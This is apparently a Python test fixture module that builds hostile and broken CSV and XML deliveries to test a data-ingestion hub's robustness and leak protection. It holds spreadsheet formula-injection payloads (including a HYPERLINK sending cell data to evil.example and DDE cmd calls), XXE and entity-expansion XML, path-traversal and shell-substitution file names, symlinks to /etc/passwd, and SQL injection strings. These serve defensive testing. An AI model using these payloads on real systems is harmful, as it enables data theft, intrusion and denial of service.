"""A generated corpus of hostile and broken deliveries (issue #8), built fresh into a tmp dir.

Nothing here is committed as data: every case is a small function of its parameters, so the
corpus can grow without binary files in the repository. Each case is a ``Delivery`` — which
inbox, which file name (bytes, so names that are not UTF-8 are possible), which content — and
rows that carry identity use the CANARY values, so a test can scan everything the hub wrote
for them afterwards.
"""

from __future__ import annotations

import gzip
import io
import os
import random
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"

# Identity values that must never appear in clear anywhere the hub writes.
CANARY_FAMILY = "Qwertzkanarie"
CANARY_GIVEN = "Yxcvbkanarie"
CANARY_BIRTH = "1911-11-11"
CANARY_AZR = "987654321098"
CANARY_STREET = "Kanarienvogelweg 9"
CANARIES = (CANARY_FAMILY, CANARY_GIVEN, CANARY_BIRTH, CANARY_AZR, "Kanarienvogelweg", "11.11.1911")

HEADER = "record_id,family_name,given_names,birth_date,sex,nationality,street,postcode,azr_number,case_status"
COLUMNS = HEADER.split(",")


def row(record_id: str, **overrides: str) -> str:
    values = {
        "record_id": record_id,
        "family_name": CANARY_FAMILY,
        "given_names": CANARY_GIVEN,
        "birth_date": CANARY_BIRTH,
        "sex": "F",
        "nationality": "SYR",
        "street": CANARY_STREET,
        "postcode": "51373",
        "azr_number": CANARY_AZR,
        "case_status": "active",
    }
    values.update(overrides)
    return ",".join(_quote(values[c]) for c in COLUMNS)


def _quote(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\r\n') else value


def csv_bytes(*rows: str, header: str = HEADER, newline: str = "\n", encoding: str = "utf-8") -> bytes:
    return (newline.join([header, *rows]) + newline).encode(encoding)


# Good deliveries: each hostile batch carries them, and their records must land.
GOOD_CSV = csv_bytes(
    "GOOD-1,Haddad,Samira,1988-03-14,F,SYR,Testweg 1,51373,,active",
    "GOOD-2,Testova,Marta,1975-11-02,F,UKR,Beispielallee 7,51375,,intake",
)
GOOD_CSV_IDS = {"GOOD-1", "GOOD-2"}


@dataclass(frozen=True)
class Delivery:
    source: str
    name: bytes  # file name as bytes: may be invalid UTF-8
    content: bytes | None  # None: the case builds something special (see kind)
    kind: str = "file"  # file | symlink-out | symlink-etc | symlink-dangling | symlink-dir | fifo | dir | hardlink-out
    label: str = ""

    @property
    def ignored(self) -> bool:
        """Never touched by design (hidden, partial uploads, not regular files)."""
        name = self.name.decode("utf-8", "surrogateescape")
        return (
            self.kind not in ("file", "hardlink-out")
            or name.startswith(".")
            or name.lower().endswith((".part", ".tmp", ".partial"))
        )


FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "=1+1",
    "\t=1+2",
    "\r=1+2",
    '=DDE("cmd";"/C calc";"x")',
)


def _encoding_cases() -> Iterator[Delivery]:
    text = HEADER + "\n" + row("ENC-1") + "\n"
    for i, encoding in enumerate(("utf-16", "utf-16-le", "utf-16-be", "utf-32")):
        yield Delivery("caritas", f"enc_{i}_{encoding}.csv".encode(), text.encode(encoding), label=encoding)
    yield Delivery("caritas", b"enc_bom_utf16_only.csv", b"\xff\xfe", label="utf16 bom only")
    yield Delivery("caritas", b"enc_bom_utf8_only.csv", b"\xef\xbb\xbf", label="utf8 bom only")
    yield Delivery(
        "caritas", b"enc_bom_utf8_invalid.csv", b"\xef\xbb\xbf" + text.encode() + b"\xff\xfe\x81", label="bom + invalid"
    )
    for i, position in enumerate((0, 5, len(text) // 2, len(text) - 1)):
        data = text.encode()
        yield Delivery("awo", f"enc_nul_{i}.csv".encode(), data[:position] + b"\x00" + data[position:], label="NUL byte")
    mixed = (
        (HEADER + "\n").encode()
        + row("MIX-1", family_name="Öztürk").encode("utf-8")
        + b"\n"
        + row("MIX-2", family_name="Müller").encode("cp1252")
        + b"\n"
    )
    yield Delivery("awo", b"enc_mixed_utf8_cp1252.csv", mixed, label="mixed encodings")
    yield Delivery(
        "awo",
        b"enc_cp1252_undefined.csv",
        (HEADER + "\n").encode() + b"X-1,\x81\x8d\x8f\x90\x9d,A,,,,,,,active\n",
        label="undefined cp1252",
    )
    yield Delivery(
        "awo", b"enc_latin1.csv", (HEADER + "\n" + row("LAT-1", family_name="Ñúñez")).encode("latin-1"), label="latin-1"
    )
    yield Delivery("awo", b"enc_ebcdic.csv", text.encode("cp500"), label="EBCDIC")
    rng = random.Random(8)
    for i in range(6):
        yield Delivery(
            "diakonie",
            f"enc_binary_{i}.csv".encode(),
            bytes(rng.randrange(256) for _ in range(rng.choice((16, 1000, 20000)))),
            label="random binary",
        )
    yield Delivery("diakonie", b"enc_gzip.csv", gzip.compress(text.encode()), label="gzip named csv")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("data.csv", text)
    yield Delivery("diakonie", b"enc_zip.csv", buffer.getvalue(), label="zip named csv")
    yield Delivery("diakonie", b"enc_zip.xlsx", buffer.getvalue(), label="zip that is no workbook")
    yield Delivery("diakonie", b"enc_garbage.xlsx", b"PK\x03\x04" + bytes(200), label="broken xlsx")
    yield Delivery(
        "diakonie",
        b"enc_overlong_utf8.csv",
        (HEADER + "\n").encode() + b"O-1,\xc0\xaf\xe0\x80\xaf,A,,,,,,,active\n",
        label="overlong utf-8",
    )
    yield Delivery(
        "diakonie",
        b"enc_surrogate_utf8.csv",
        (HEADER + "\n").encode() + b"S-1,\xed\xa0\x80,A,,,,,,,active\n",
        label="encoded surrogate",
    )
    yield Delivery(
        "diakonie", b"enc_bidi.csv", csv_bytes(row("BIDI-1", family_name="\u202egnp.exe")), label="bidi override in value"
    )


def _structure_cases() -> Iterator[Delivery]:
    yield Delivery("stadt", b"shape_empty.csv", b"", label="empty")
    yield Delivery("stadt", b"shape_newlines_only.csv", b"\n\r\n\n" * 1000, label="only newlines")
    yield Delivery("stadt", b"shape_delims_only.csv", b",,,,\n;;;;\n" * 100, label="only delimiters")
    yield Delivery("stadt", b"shape_header_only.csv", HEADER.encode(), label="header only, no newline")
    yield Delivery("stadt", b"shape_header_only_nl.csv", (HEADER + "\r\n").encode(), label="header only")
    yield Delivery("stadt", b"shape_sep_only.csv", b"sep=;\n", label="sep hint only")
    yield Delivery(
        "stadt", b"shape_sep_pipe.csv", b"sep=|\n" + HEADER.replace(",", "|").encode() + b"\n", label="unsupported sep"
    )
    yield Delivery(
        "stadt",
        b"shape_tabs.csv",
        (HEADER.replace(",", "\t") + "\n" + row("TAB-1").replace(",", "\t") + "\n").encode(),
        label="tab separated",
    )
    yield Delivery("stadt", b"shape_cr_only.csv", csv_bytes(row("CR-1"), row("CR-2"), newline="\r"), label="CR line ends")
    yield Delivery(
        "stadt",
        b"shape_mixed_newlines.csv",
        (HEADER + "\r\n" + row("NL-1") + "\n" + row("NL-2") + "\r" + row("NL-3") + "\n").encode(),
        label="mixed line ends",
    )
    yield Delivery("stadt", b"shape_no_header.csv", csv_bytes(row("NOH-2"), header=row("NOH-1")), label="data row as header")
    yield Delivery(
        "stadt", b"shape_dup_header.csv", csv_bytes(row("DUP-1") + ",x", header=HEADER + ",family_name"), label="duplicate column"
    )
    yield Delivery(
        "stadt", b"shape_missing_required.csv", b"record_id,birth_date\nM-1,1911-11-11\n", label="required column missing"
    )
    for i, cut in enumerate((3, 5, 9, 11, 20)):
        cells = row(f"RAG-{i}").split(",")
        yield Delivery(
            "caritas",
            f"shape_ragged_short_{i}.csv".encode(),
            csv_bytes(",".join(cells[: cut % len(cells) or 1]), row(f"RAGOK-{i}")),
            label="ragged short",
        )
        yield Delivery(
            "caritas",
            f"shape_ragged_long_{i}.csv".encode(),
            csv_bytes(row(f"RAG-{i}") + ",x" * cut, row(f"RAGOK-{i}")),
            label="ragged long",
        )
    yield Delivery(
        "caritas",
        b"shape_unclosed_end.csv",
        csv_bytes(row("UQ-0"), 'UQ-1,"' + CANARY_FAMILY + ",A,,,,,,,active"),
        label="unclosed quote at end",
    )
    yield Delivery(
        "caritas",
        b"shape_unclosed_mid.csv",
        csv_bytes('UQ-2,"' + CANARY_FAMILY + ",A,,,,,,,active", row("UQ-3"), row("UQ-4")),
        label="unclosed quote mid-file",
    )
    yield Delivery(
        "caritas", b"shape_quote_in_field.csv", csv_bytes('QF-1,Ab"c' + CANARY_FAMILY + '"d,A,,,,,,,active'), label="stray quote"
    )
    yield Delivery("caritas", b"shape_quoted_newline.csv", csv_bytes(row("QN-1", street="Line\nbreak 1")), label="quoted newline")
    yield Delivery(
        "caritas", b"shape_quote_after_close.csv", csv_bytes('QC-1,"Abc"x,A,,,,,,,active'), label="text after closing quote"
    )
    wide = ",".join(f"c{i}" for i in range(100_000))
    yield Delivery(
        "awo",
        b"shape_100k_columns_header.csv",
        (HEADER + "," + wide + "\n" + row("W-1") + "," + ",".join("v" for _ in range(100_000)) + "\n").encode(),
        label="100k-column header",
    )
    yield Delivery(
        "awo", b"shape_100k_columns_row.csv", csv_bytes(row("W-2") + ",x" * 100_000, row("W-3")), label="100k-column row"
    )
    yield Delivery(
        "awo",
        b"shape_100k_columns_formulas.csv",
        (HEADER + "," + ",".join(f"=c{i}" for i in range(100_000)) + "\n" + row("W-4") + ",x" * 100_000 + "\n").encode(),
        label="100k formula headers",
    )
    yield Delivery(
        "awo", b"shape_10mb_field.csv", csv_bytes(row("BIG-1", family_name="A" * 10_000_000), row("BIG-2")), label="10 MB field"
    )
    yield Delivery("awo", b"shape_long_record_id.csv", csv_bytes(row("R" * 5000)), label="5000-char record id")
    yield Delivery(
        "awo",
        b"shape_many_empty_lines.csv",
        (HEADER + "\n" + "\n" * 200_000 + row("EL-1") + "\n").encode(),
        label="200k empty lines",
    )
    yield Delivery("awo", b"shape_dup_ids.csv", csv_bytes(row("D-1"), row("D-1"), row("D-2")), label="duplicate record ids")
    yield Delivery(
        "awo",
        b"shape_control_chars.csv",
        csv_bytes(row("CC-1", family_name="Ab\x1b[31mc\x07", given_names="\x0b\x0c\x1f")),
        label="control chars in values",
    )
    yield Delivery(
        "awo",
        b"shape_huge_values.csv",
        csv_bytes(row("HV-1", birth_date="9" * 400, postcode="9" * 400, azr_number="9" * 400, sex="Q" * 400)),
        label="huge values",
    )
    yield Delivery(
        "awo",
        b"shape_injection.csv",
        csv_bytes(row("'; DROP TABLE source_record;--", family_name="Robert'); DROP TABLE x;--")),
        label="SQL text",
    )


def _formula_cases() -> Iterator[Delivery]:
    sources = ("caritas", "awo", "diakonie", "stadt")
    for i, formula in enumerate(FORMULAS):
        for j, column in enumerate(COLUMNS):
            rid = formula if column == "record_id" else f"F-{i}-{j}"
            yield Delivery(
                sources[(i + j) % 4],
                f"formula_{i}_{column}.csv".encode(),
                csv_bytes(row(rid, **({column: formula} if column != "record_id" else {}))),
                label=f"formula in {column}",
            )
        yield Delivery(
            sources[i % 4],
            f"formula_{i}_header.csv".encode(),
            csv_bytes(row(f"FH-{i}") + ",x", header=HEADER + "," + _quote(formula)),
            label="formula as header",
        )
        yield Delivery(
            sources[i % 4],
            f"formula_{i}_sep.csv".encode(),
            b"sep=;\n" + csv_bytes(row(f"FS-{i}", family_name=formula)).replace(b",", b";"),
            label="formula, sep hint",
        )


def _name_cases() -> Iterator[Delivery]:
    names = [
        b"..\\..\\..\\etc\\passwd.csv",
        b"..%2f..%2fetc%2fpasswd.csv",
        b"....\\\\....\\\\x.csv",
        b"C:\\Windows\\System32\\evil.csv",
        b"\\\\server\\share\\evil.csv",
        b"~root.csv",
        b"-rf --no-preserve-root.csv",
        b'=HYPERLINK("evil")&.csv',
        b"+cmd.csv",
        b"@SUM(A1).csv",
        b"name\nwith newline.csv",
        b"name\rwith cr.csv",
        b"esc\x1b[2Jclear.csv",
        b"bell\x07.csv",
        b"del\x7f.csv",
        "rtl\u202evsc.csv".encode(),
        "nfd_Mu\u0308ller.csv".encode(),
        b"latin1_\xfc\xe4.csv",
        b"invalid_\xff\xfe.csv",
        b"x" * 240 + b".csv",
        b"con.csv",
        b"nul.csv",
        b"spaces   in   name .csv",
        b"tab\tname.csv",
        b"quote\"name'.csv",
        b"semi;colon,comma.csv",
        b"$(reboot).csv",
        b"`id`.csv",
        b"star*?.csv",
        b"pipe|name.csv",
        b"a.receipt.json.csv",
        b"UPPER.CSV",
        b"no_extension",
        b"double.csv.csv",
        b"trailing.dot.",
        b"emoji_\xf0\x9f\x98\x80.csv",
    ]
    for i, name in enumerate(names):
        yield Delivery(("caritas", "awo", "diakonie", "stadt")[i % 4], name, csv_bytes(row(f"N-{i}")), label="hostile file name")
    yield Delivery("caritas", b".hidden.csv", csv_bytes(row("HID-1")), label="hidden file")
    yield Delivery("caritas", b"upload.csv.part", csv_bytes(row("PART-1")), label="partial upload")
    yield Delivery("caritas", b"upload.csv.tmp", csv_bytes(row("TMP-1")), label="temp upload")
    yield Delivery("stadt", b"link_outside.csv", None, kind="symlink-out", label="symlink outside inbox")
    yield Delivery("stadt", b"link_etc.csv", None, kind="symlink-etc", label="symlink to /etc/passwd")
    yield Delivery("stadt", b"link_dangling.csv", None, kind="symlink-dangling", label="dangling symlink")
    yield Delivery("stadt", b"link_dir.csv", None, kind="symlink-dir", label="symlink to a directory")
    yield Delivery("stadt", b"fifo.csv", None, kind="fifo", label="named pipe")
    yield Delivery("stadt", b"subdir.csv", None, kind="dir", label="directory")
    yield Delivery("stadt", b"hardlink_outside.csv", None, kind="hardlink-out", label="hard link to a file outside")


def _xml(
    body: str,
    doctype: str = "",
    namespace: str = "urn:kim-hub:abh:1",
    count: int = 1,
    declaration: str = '<?xml version="1.0" encoding="UTF-8"?>\n',
) -> bytes:
    return (
        f'{declaration}{doctype}<abhMeldungen xmlns="{namespace}" erstellt="2026-11-24T23:00:00" behoerde="000000" anzahl="{count}">\n{body}\n</abhMeldungen>\n'
    ).encode()


_MELDUNG = (
    '<meldung nachrichtUUID="00000000-0000-4000-8000-00000000{n:04d}" typ="bestand" zeitpunkt="2026-11-24T22:00:00">'
    "<person><azrNummer>{azr}</azrNummer><name><familienname>{family}</familienname><vornamen>{given}</vornamen></name>"
    "<geburtsdatum><datum>" + CANARY_BIRTH + "</datum></geburtsdatum></person></meldung>"
)


def meldung(n: int, family: str = CANARY_FAMILY, given: str = CANARY_GIVEN, azr: str = CANARY_AZR) -> str:
    return _MELDUNG.format(n=n, family=family, given=given, azr=azr)


def _xml_cases(outside: Path) -> Iterator[Delivery]:
    m = meldung(1)
    yield Delivery(
        "abh",
        b"xml_xxe_file.xml",
        _xml(meldung(1, family="&e;"), f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{outside}">]>\n'),
        label="XXE file",
    )
    yield Delivery(
        "abh",
        b"xml_xxe_passwd.xml",
        _xml(meldung(1, family="&e;"), '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'),
        label="XXE passwd",
    )
    yield Delivery(
        "abh",
        b"xml_xxe_http.xml",
        _xml(meldung(1, family="&e;"), '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/x">]>\n'),
        label="XXE http",
    )
    yield Delivery(
        "abh",
        b"xml_param_entity.xml",
        _xml(m, '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>\n'),
        label="parameter entity",
    )
    yield Delivery(
        "abh",
        b"xml_external_dtd.xml",
        _xml(m, '<!DOCTYPE abhMeldungen SYSTEM "http://127.0.0.1:9/abh.dtd">\n'),
        label="external DTD",
    )
    yield Delivery(
        "abh",
        b"xml_external_dtd_file.xml",
        _xml(m, f'<!DOCTYPE abhMeldungen SYSTEM "file://{outside}">\n'),
        label="external DTD file",
    )
    yield Delivery(
        "abh",
        b"xml_public_dtd.xml",
        _xml(m, '<!DOCTYPE abhMeldungen PUBLIC "-//X//DTD X//EN" "http://127.0.0.1:9/x.dtd">\n'),
        label="public DTD",
    )
    laughs = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    yield Delivery(
        "abh",
        b"xml_billion_laughs.xml",
        _xml(meldung(1, family="&l9;"), f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>\n'),
        label="billion laughs",
    )
    yield Delivery(
        "abh",
        b"xml_quadratic.xml",
        _xml(meldung(1, family="&a;" * 5000), '<!DOCTYPE x [<!ENTITY a "' + "A" * 50_000 + '">]>\n'),
        label="quadratic blowup",
    )
    yield Delivery(
        "abh",
        b"xml_internal_entity.xml",
        _xml(meldung(1, family="&n;"), '<!DOCTYPE x [<!ENTITY n "Name">]>\n'),
        label="harmless internal entity",
    )
    yield Delivery("abh", b"xml_deep.xml", _xml("<a>" * 100_000 + "</a>" * 100_000), label="deep nesting 100k")
    yield Delivery(
        "abh",
        b"xml_deep_1k.xml",
        _xml(m.replace("<person>", "<person>" + "<x>" * 1000 + "</x>" * 1000)),
        label="deep nesting 1k in person",
    )
    yield Delivery("abh", b"xml_wrong_ns.xml", _xml(m, namespace="urn:evil"), label="wrong namespace")
    yield Delivery("abh", b"xml_no_ns.xml", _xml(m).replace(b' xmlns="urn:kim-hub:abh:1"', b""), label="no namespace")
    yield Delivery(
        "abh",
        b"xml_prefixed_ns.xml",
        _xml(m).replace(b"<abhMeldungen xmlns=", b"<abhMeldungen xmlns:q=", 1),
        label="namespace prefix only",
    )
    yield Delivery("abh", b"xml_truncated.xml", _xml(m)[:-40], label="truncated")
    yield Delivery("abh", b"xml_empty.xml", b"", label="empty xml")
    yield Delivery("abh", b"xml_decl_only.xml", b'<?xml version="1.0"?>', label="declaration only")
    yield Delivery(
        "abh",
        b"xml_utf16.xml",
        _xml(m, declaration='<?xml version="1.0" encoding="UTF-16"?>\n').decode().encode("utf-16"),
        label="utf-16 xml",
    )
    yield Delivery(
        "abh",
        b"xml_wrong_decl.xml",
        _xml(m, declaration='<?xml version="1.0" encoding="EBCDIC-XX"?>\n'),
        label="unknown declared encoding",
    )
    yield Delivery(
        "abh",
        b"xml_stylesheet.xml",
        _xml(m, '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>\n'),
        label="stylesheet PI",
    )
    yield Delivery(
        "abh",
        b"xml_xinclude.xml",
        _xml(
            m.replace(
                "<person>",
                f'<person><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{outside}" parse="text"/>',
            )
        ),
        label="XInclude",
    )
    yield Delivery(
        "abh",
        b"xml_schema_location.xml",
        _xml(m).replace(
            b'anzahl="1"',
            b'anzahl="1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:kim-hub:abh:1 http://127.0.0.1:9/x.xsd"',
        ),
        label="schemaLocation",
    )
    yield Delivery(
        "abh",
        b"xml_huge_attr.xml",
        _xml(m).replace(b'behoerde="000000"', b'behoerde="' + b"0" * 5_000_000 + b'"'),
        label="5 MB attribute",
    )
    yield Delivery(
        "abh", b"xml_cdata_formula.xml", _xml(meldung(1, family='<![CDATA[=HYPERLINK("http://evil")]]>')), label="CDATA formula"
    )
    yield Delivery("abh", b"xml_bad_count.xml", _xml(m, count=7), label="anzahl mismatch")
    yield Delivery("abh", b"xml_invalid_char.xml", _xml(meldung(1, family="A\x01B")), label="invalid XML char")
    yield Delivery("abh", b"xml_nul.xml", _xml(m).replace(b"<person>", b"<person>\x00"), label="NUL in xml")
    yield Delivery(
        "abh",
        b"xml_many_attrs.xml",
        _xml(m).replace(b'anzahl="1"', b'anzahl="1" ' + b" ".join(f'a{i}="x"'.encode() for i in range(50_000))),
        label="50k attributes",
    )
    yield Delivery("abh", b"xml_html.xml", b"<html><body>=cmd</body></html>", label="HTML")
    yield Delivery("abh", b"xml_json.xml", b'{"abhMeldungen": []}', label="JSON named xml")
    yield Delivery("abh", b"xml_as_csv.csv", _xml(m), label="XML named csv")
    yield Delivery("abh", b"csv_as_xml.xml", csv_bytes(row("CX-1")), label="CSV named xml")
    yield Delivery("caritas", b"xml_in_provider_inbox.xml", _xml(m), label="XML in a CSV-only inbox")


def _jobcenter_cases() -> Iterator[Delivery]:
    good = (FIXTURES / "jobcenter" / "JC_KIM_20261124.csv").read_bytes()
    lines = good.split(b"\r\n")
    yield Delivery("jobcenter", b"JC_KIM_20261201.csv", b"\r\n".join(lines[:3]) + b"\r\n", label="truncated, no trailer")
    yield Delivery(
        "jobcenter",
        b"JC_KIM_20261202.csv",
        good.replace("#Anzahl Datensätze;4".encode("cp1252"), "#Anzahl Datensätze;5".encode("cp1252")),
        label="trailer count wrong",
    )
    yield Delivery(
        "jobcenter",
        b"JC_KIM_20261203.csv",
        lines[0] + b"\r\n" + "#Anzahl Datensätze;0".encode("cp1252") + b"\r\n",
        label="header + trailer only",
    )
    yield Delivery("jobcenter", b"JC_KIM_20261204.csv", good.decode("cp1252").encode("utf-16"), label="utf-16 export")
    yield Delivery("jobcenter", b"JC_KIM_20261205.csv", good.replace(b"Testmann", b'"Testmann', 1), label="unclosed quote")
    yield Delivery(
        "jobcenter", b"JC_KIM_20261206.csv", good.replace(b"Testmann;", b'=HYPERLINK("x");', 1), label="formula family name"
    )
    yield Delivery("jobcenter", b"JC_KIM_20261207.csv", good.replace(b"123A000001", b"=1+1", 1), label="formula customer number")
    yield Delivery("jobcenter", b"JC_KIM_20261208.csv", good.replace(b"\r\n", b"\r\n\x00", 1), label="NUL byte")
    yield Delivery("jobcenter", b"JC_KIM_20261209.csv", b"#Anzahl Datens\xe4tze;99999999999999999999\r\n", label="trailer only")


def corpus(outside: Path) -> list[Delivery]:
    """Every case, in a fixed order."""
    return [*_encoding_cases(), *_structure_cases(), *_formula_cases(), *_name_cases(), *_xml_cases(outside), *_jobcenter_cases()]


def deliver(inbox_root: Path, delivery: Delivery, outside: Path) -> Path:
    """Put one case into ``inbox_root/<source>/`` as a settled delivery."""
    folder = inbox_root / delivery.source
    folder.mkdir(parents=True, exist_ok=True)
    target = Path(os.fsdecode(bytes(folder).__add__(b"/" + delivery.name)))
    if delivery.kind == "file":
        target.write_bytes(delivery.content or b"")
    elif delivery.kind == "symlink-out":
        target.symlink_to(outside)
    elif delivery.kind == "symlink-etc":
        target.symlink_to("/etc/passwd")
    elif delivery.kind == "symlink-dangling":
        target.symlink_to(outside.parent / "does-not-exist.csv")
    elif delivery.kind == "symlink-dir":
        target.symlink_to(outside.parent)
    elif delivery.kind == "fifo":
        os.mkfifo(target)
    elif delivery.kind == "dir":
        target.mkdir()
    elif delivery.kind == "hardlink-out":
        os.link(outside, target)
    past = 1_600_000_000
    if not target.is_symlink():
        os.utime(target, (past, past))
    return target
